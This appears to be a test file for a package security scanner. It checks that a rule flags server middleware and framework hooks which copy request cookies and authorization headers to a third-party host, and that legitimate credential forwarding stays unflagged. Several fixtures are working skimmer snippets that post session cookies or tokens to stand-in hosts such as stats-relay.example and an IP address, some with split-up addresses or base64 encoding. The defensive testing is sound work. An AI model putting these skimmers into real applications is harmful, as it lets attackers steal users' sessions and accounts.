/**
 * Session skimmers on the server: middleware or a framework hook that copies the cookies or the
 * authorization header of the requests an application handles to a host of its own. Written for
 * round 21's SvelteKit hook (missed by every rule) and varied the way an attacker would; the
 * look-alikes forward a request's credentials to the service they are for.
 */
import { analyzeSource, threatsOf } from './helpers';

const load = (files: Record<string, string>) =>
  analyzeSource({
    'package.json': JSON.stringify({ name: 'edge-session-kit', version: '1.4.0', main: 'index.js' }),
    ...files,
  });
const skims = (files: Record<string, string>) =>
  load(files).evidence.filter((f) => f.rule === 'js.request-secret-exfil');

describe('credentials of handled requests sent to a fixed host', () => {
  it('a framework hook: the cookie jar and a header read with headers.get, address from parts', () => {
    const r = load({
      'index.js': `const SINK = ['https://', 'cdn-metrics', '.example', '/v1/collect'];
export async function handle({ event, resolve }) {
  const jar = event.cookies.getAll();
  const auth = event.request.headers.get('authorization');
  queueMicrotask(() => { fetch(SINK.slice(0, 3).join('') + SINK[3], { method: 'POST', body: JSON.stringify({ host: event.url.host, jar, auth }) }).catch(() => {}); });
  return resolve(event);
}`,
    });
    expect(r.risk_level).toBe('critical');
    expect(r.evidence.map((f) => f.rule)).toContain('js.request-secret-exfil');
  });

  it('Express middleware: the Cookie header in a body written after the response finished', () => {
    expect(
      skims({
        'index.js': `const https = require('https');
module.exports = function timer() {
  return function (req, res, next) {
    const start = Date.now();
    res.on('finish', () => {
      const d = JSON.stringify({ u: req.originalUrl, t: Date.now() - start, c: req.headers.cookie, a: req.headers['authorization'] });
      const r = https.request({ hostname: 'stats-relay.example', path: '/t', method: 'POST' });
      r.end(d);
    });
    next();
  };
};`,
      }),
    ).toHaveLength(1);
  });

  it('Koa: the session cookie handed to a reporter in a second file that posts it to an IP', () => {
    expect(
      skims({
        'index.js': `const { report } = require('./lib/report');
module.exports = () => async (ctx, next) => { const t = Date.now(); await next(); report({ path: ctx.path, ms: Date.now() - t, s: ctx.cookies.get('koa.sess') }); };`,
        'lib/report.js': `const http = require('http');
const target = { host: [203, 0, 113, 7].join('.'), port: 8080, path: '/ingest', method: 'POST' };
exports.report = (entry) => { const r = http.request(target); r.on('error', () => {}); r.end(Buffer.from(JSON.stringify(entry)).toString('base64')); };`,
      }),
    ).toHaveLength(1);
  });

  it("Express's req.get('cookie') posted from a finish handler", () => {
    expect(
      skims({
        'index.js': `module.exports = (req, res, next) => { res.on('finish', () => fetch('https://t.example-apm.net/c', { method: 'POST', body: req.get('cookie') || '' })); next(); };`,
      }),
    ).toHaveLength(1);
  });

  it('a parsed cookie jar (req.signedCookies) sent in a query string', () => {
    expect(
      skims({
        'index.js': `module.exports = (req, res, next) => {
  const sid = req.signedCookies && req.signedCookies.sid;
  if (sid) fetch('https://img.example-pixel.net/p.gif?s=' + encodeURIComponent(sid));
  next();
};`,
      }),
    ).toHaveLength(1);
  });
});

describe('quiet: credentials used where they belong', () => {
  it("the user's token sent on in the Authorization header of a request to the API it is for", () => {
    expect(
      threatsOf(
        load({
          'index.js': `module.exports = () => async (req, res) => {
  const r = await fetch('https://api.example-git.com/user', { headers: { authorization: req.headers.authorization, accept: 'application/json' } });
  res.end(await r.text());
};`,
        }),
      ),
    ).toEqual([]);
  });
  it("a proxy that hands the request's headers on whole to its upstream, and a backend-for-frontend that forwards the Cookie header to its API", () => {
    expect(
      threatsOf(
        load({
          'index.js': `module.exports = async (req, res) => { const r = await fetch('https://api.example-app.com' + req.url, { headers: { cookie: req.headers.cookie } }); res.end(await r.text()); };`,
        }),
      ),
    ).toEqual([]);
    expect(
      threatsOf(
        load({
          'index.js': `const https = require('https');
module.exports = (req, res) => {
  const up = https.request({ hostname: 'api.example-saas.com', path: req.url, method: req.method, headers: req.headers }, (r) => r.pipe(res));
  req.pipe(up);
};`,
        }),
      ),
    ).toEqual([]);
  });
  it("an error reporter that sends the request's headers, a visitor id read from a cookie, and a browser's cookies read by Puppeteer", () => {
    expect(
      threatsOf(
        load({
          'index.js': `const https = require('https');
exports.report = (err, req) => { const r = https.request({ hostname: 'api.example-errors.com', path: '/item/', method: 'POST' }); r.end(JSON.stringify({ m: err.message, request: { url: req.url, headers: req.headers } })); };
exports.capture = (req, key, event) => { const raw = req.cookies[\`ph_\${key}_posthog\`]; const id = raw ? JSON.parse(raw).distinct_id : 'anon'; fetch('https://eu.example-analytics.com/capture/', { method: 'POST', body: JSON.stringify({ event, distinct_id: id }) }); };
exports.flags = async (request) => fetch('https://flags.example-flags.io/v1/eval?u=' + request.cookies.get('fl_uid'));
exports.snapshot = async (page) => fetch('https://store.example-crawl.io/s', { method: 'POST', body: JSON.stringify(await page.cookies()) });`,
        }),
      ),
    ).toEqual([]);
  });
  it('a logger that posts method, path and timing, not the headers, to its fixed endpoint', () => {
    expect(
      threatsOf(
        load({
          'index.js': `module.exports = (req, res, next) => {
  const t = Date.now();
  res.on('finish', () => fetch('https://logs.example-apm.io/v1', { method: 'POST', body: JSON.stringify({ m: req.method, p: req.path, ms: Date.now() - t, ua: req.headers['user-agent'] }) }));
  next();
};`,
        }),
      ),
    ).toEqual([]);
  });
});
